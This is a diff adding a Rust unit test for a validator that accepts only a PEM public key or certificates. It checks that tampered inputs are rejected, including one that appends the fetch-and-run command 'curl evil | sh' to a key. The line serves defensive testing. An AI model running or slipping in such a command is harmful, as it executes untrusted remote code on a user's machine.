@@ -402,3 +402,22 @@ fn number(members: &Map<String, Value>, key: &str) -> Result<i64, Refusal> {
     let number = members.get(key).and_then(Value::as_i64).filter(|number| *number >= 0);
     number.ok_or_else(|| malformed(&format!("{key} is no whole number from 0")))
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_companion_is_a_key_or_certificates_and_nothing_besides() {
+        let key = "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE1Olb3zMAFFxXKHiIkQO5cJ3Yhl5i6UPp+\n\
+                   IhuteBJbuHcA5UogKo0EWtlWwW6KSaKoTNEYL7JlCQiVnkhBktUgg==\n-----END PUBLIC KEY-----\n";
+        assert_eq!(is_companion(key.as_bytes()), Ok(()));
+        assert_eq!(is_companion(STANDARD.encode(key).as_bytes()), Ok(()));
+        let script = format!("{key}curl evil | sh\n");
+        let noise = "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n";
+        let header = key.replacen('\n', "\nX: y\n", 1);
+        for other in [script.as_str(), &STANDARD.encode(&script), noise, &header] {
+            assert_eq!(is_companion(other.as_bytes()).unwrap_err().reason, Reason::Invalid, "{other}");
+        }
+    }
+}
